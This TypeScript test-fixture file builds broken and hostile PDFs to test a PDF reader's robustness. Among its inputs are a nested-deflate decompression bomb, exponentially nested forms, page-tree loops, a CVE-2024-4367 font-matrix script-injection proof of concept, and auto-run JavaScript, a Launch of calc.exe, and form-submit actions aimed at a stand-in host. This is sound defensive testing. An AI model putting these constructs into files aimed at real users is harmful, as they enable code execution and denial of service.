/** PDFs that are broken or mean harm, written here object by object; each is to end in a document or a named failure. */
import { latin, pdfFile, type PdfObject } from './pdf-file.ts'

export type BadPdf = {
  name: string
  bytes: Uint8Array<ArrayBuffer>
  /** Nobody could read it to its end. */
  endless?: boolean
}

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'

/** One of each kind. */
export async function badPdfs(): Promise<BadPdf[]> {
  const paper = ordinary()
  return [
    { name: 'ordinary', bytes: paper },
    { name: 'zero-bytes', bytes: new Uint8Array(0) },
    { name: 'error-page', bytes: latin('<!doctype html><title>503</title><p>Back soon.') },
    { name: 'truncated', bytes: paper.slice(0, Math.floor(paper.length * 0.7)) },
    { name: 'cross-references-cut', bytes: paper.slice(0, textOf(paper).indexOf('\nxref') + 40) },
    { name: 'cross-references-loop', bytes: withPrevious(paper) },
    { name: 'thousand-pages', bytes: manyPages(1000) },
    { name: 'million-kids', bytes: millionKids() },
    { name: 'kids-loop', bytes: kidsLoop() },
    { name: 'bomb', bytes: await bomb() },
    { name: 'nested-forms', bytes: nestedForms(), endless: true },
    { name: 'million-operators', bytes: await millionOperators() },
    { name: 'locked', bytes: locked() },
    { name: 'pictures-only', bytes: picturesOnly() },
    { name: 'lying-characters', bytes: lyingCharacters() },
    { name: 'font-matrix', bytes: fontMatrix() },
    { name: 'actions', bytes: actions() },
    { name: 'ten-thousand-annotations', bytes: annotations(10_000) },
  ]
}

/** Lines of text on a page of US letter size. */
function writing(lines: number, word = 'moss'): PdfObject {
  const rows = Array.from(
    { length: lines },
    (_, index) => `(Line ${index + 1}: the ${word} of the wall grows slowly.) Tj T*`,
  )
  return { entries: '', bytes: latin(`BT /F1 11 Tf 14 TL 72 720 Td ${rows.join('\n')} ET`) }
}

function page(content: number, more = ''): string {
  return `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents ${content} 0 R ${more} >>`
}

/** Objects 1 to 5: catalogue, pages, one page, its font, its text. */
function onePage({ catalogue = '', pageMore = '', font = FONT, text = writing(40) } = {}): PdfObject[] {
  return [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    page(5, pageMore),
    font,
    text,
  ]
}

function ordinary(): Uint8Array<ArrayBuffer> {
  return pdfFile(onePage())
}

/** The table names itself as the one before it. */
function withPrevious(file: Uint8Array): Uint8Array<ArrayBuffer> {
  const text = textOf(file)
  const start = Number(/startxref\n(\d+)/.exec(text)?.[1])
  return latin(text.replace('/Root 1 0 R', `/Root 1 0 R /Prev ${start}`).replace('Kids [3', 'Kids  [3'))
}

function manyPages(count: number): Uint8Array<ArrayBuffer> {
  const first = 6
  const kids = Array.from({ length: count }, (_, index) => `${first + index} 0 R`)
  const [catalogue = '', , , font = '', text = ''] = onePage()
  const pages = `<< /Type /Pages /Kids [${kids.join(' ')}] /Count ${count} >>`
  return pdfFile([catalogue, pages, 'null', font, text, ...kids.map(() => page(5))])
}

/** One page a million times, in one list. */
function millionKids(): Uint8Array<ArrayBuffer> {
  const [catalogue = '', , ...rest] = onePage()
  return pdfFile([catalogue, `<< /Type /Pages /Kids [${'3 0 R '.repeat(1_000_000)}] /Count 1000000 >>`, ...rest])
}

/** A list of pages that is its own member. */
function kidsLoop(): Uint8Array<ArrayBuffer> {
  const [catalogue = '', , ...rest] = onePage()
  return pdfFile([catalogue, '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2000 >>', ...rest])
}

/** Ten gigabytes of zeros, deflated twice, as the page's content. */
async function bomb(): Promise<Uint8Array<ArrayBuffer>> {
  const small = await deflated(new Uint8Array(4_000_000))
  // Equal bytes make equal codes: the middle of the stream is one byte over and over, and may be as long as one likes.
  const middle = Math.floor(small.length / 2)
  const longer = new Uint8Array(small.length + 10_000_000).fill(small[middle] ?? 0)
  longer.set(small.subarray(0, middle))
  longer.set(small.subarray(middle), longer.length - (small.length - middle))
  const text = { entries: '/Filter [/FlateDecode /FlateDecode]', bytes: await deflated(longer) }
  return pdfFile(onePage({ text }))
}

async function deflated(bytes: Uint8Array<ArrayBuffer>): Promise<Uint8Array> {
  const stream = new Blob([bytes]).stream().pipeThrough(new CompressionStream('deflate'))
  return new Uint8Array(await new Response(stream).arrayBuffer())
}

/** Drawings that include each other twice, forty deep: 2^40 pieces of text. */
function nestedForms(): Uint8Array<ArrayBuffer> {
  const depth = 40
  const form = (index: number): PdfObject => ({
    entries: `/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> /XObject << /X ${7 + index} 0 R >> >>`,
    bytes: latin(index + 1 < depth ? '/X Do /X Do' : 'BT /F1 9 Tf 72 700 Td (moss) Tj ET'),
  })
  const objects = onePage({ text: { entries: '', bytes: latin('/X Do') } })
  objects[2] = page(5).replace('/Font <<', '/XObject << /X 6 0 R >> /Font <<')
  return pdfFile([...objects, ...Array.from({ length: depth }, (_, index) => form(index))])
}

/** A first page of text, and a second that is painted with a million strokes. */
async function millionOperators(): Promise<Uint8Array<ArrayBuffer>> {
  const [catalogue = '', , first = '', font = '', text = ''] = onePage()
  const pages = '<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 2 >>'
  const strokes = { entries: '/Filter /FlateDecode', bytes: await deflated(latin('q 1 w Q '.repeat(350_000))) }
  return pdfFile([catalogue, pages, first, font, text, page(7), strokes])
}

/** Encrypted with a password that nobody gave: neither hash is of the empty one (ISO 32000-1, 7.6.3). */
function locked(): Uint8Array<ArrayBuffer> {
  const hash = `<${'4d'.repeat(32)}>`
  const encrypt = `<< /Filter /Standard /V 1 /R 2 /O ${hash} /U ${hash} /P -4 >>`
  return pdfFile([...onePage(), encrypt], `/Encrypt 6 0 R /ID [<00112233> <00112233>]`)
}

/** Three scanned pages: a picture each, and its number. */
function picturesOnly(): Uint8Array<ArrayBuffer> {
  const first = 7
  const kids = [0, 1, 2].map((index) => `${first + index} 0 R`)
  const image = { entries: '/Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceGray /BitsPerComponent 8', bytes: Uint8Array.of(90, 120, 150, 180) } // prettier-ignore
  const content = latin('q 612 0 0 792 0 0 cm /I Do Q BT /F1 9 Tf 300 20 Td (12) Tj ET')
  const scan = page(5).replace('/Font <<', '/XObject << /I 6 0 R >> /Font <<')
  const [catalogue = '', , , font = ''] = onePage()
  const pages = `<< /Type /Pages /Kids [${kids.join(' ')}] /Count 3 >>`
  return pdfFile([catalogue, pages, 'null', font, { entries: '', bytes: content }, image, ...kids.map(() => scan)])
}

/** Letters that say they are other letters. */
function lyingCharacters(): Uint8Array<ArrayBuffer> {
  const font = FONT.replace('>>', '/ToUnicode 6 0 R >>')
  const map =
    '/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def 1 begincodespacerange <00> <ff> ' +
    'endcodespacerange 1 beginbfrange <41> <7a> <0391> endbfrange endcmap end end'
  return pdfFile([...onePage({ font }), { entries: '', bytes: latin(map) }])
}

/** A font whose matrix holds program text, which old readers ran (CVE-2024-4367). */
function fontMatrix(): Uint8Array<ArrayBuffer> {
  const attack = String.raw`(1\); globalThis.attacked = true; postMessage\('attacked'\); //)`
  const font = `<< /Type /Font /Subtype /Type1 /BaseFont /Moss /FirstChar 0 /LastChar 255 /FontMatrix [1 2 3 4 5 ${attack}] /FontDescriptor 6 0 R >>`
  const descriptor = '<< /Type /FontDescriptor /FontName /Moss /Flags 4 /FontFile 7 0 R >>'
  const program = `%!PS-AdobeFont-1.0: Moss\n/FontName /Moss def /FontType 1 def /FontMatrix [1 2 3 4 5 ${attack}] readonly def currentfile eexec\n`
  return pdfFile([
    ...onePage({ font }),
    descriptor,
    { entries: `/Length1 ${program.length} /Length2 0 /Length3 0`, bytes: latin(program) },
  ])
}

/** Everything that could run or fetch something when the file opens, or the page, or a link. */
function actions(): Uint8Array<ArrayBuffer> {
  const script = '/S /JavaScript /JS (globalThis.attacked = true; app.alert\\(1\\);)'
  const links = [
    `<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A << ${script} >> >>`,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A << /S /Launch /F (calc.exe) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A << /S /URI /URI (https://elsewhere.example/) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A << /S /SubmitForm /F (https://elsewhere.example/) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A << /S /GoToR /F (https://elsewhere.example/a.pdf) >> >>',
  ]
  const catalogue = `/OpenAction << ${script} >> /AA << /WC << ${script} >> >> /Names << /JavaScript << /Names [(a) << ${script} >>] >> >>`
  const pageMore = `/AA << /O << ${script} >> >> /Annots [${links.join(' ')}]`
  return pdfFile(onePage({ catalogue, pageMore }))
}

function annotations(count: number): Uint8Array<ArrayBuffer> {
  const note = '<< /Type /Annot /Subtype /Text /Rect [10 10 30 30] /Contents (moss) >>'
  return pdfFile([
    ...onePage({
      pageMore: `/Annots [${Array.from({ length: count }, (_, index) => `${6 + index} 0 R`).join(' ')}]`,
    }),
    ...Array.from({ length: count }, () => note),
  ])
}

function textOf(bytes: Uint8Array): string {
  return new TextDecoder('latin1').decode(bytes)
}
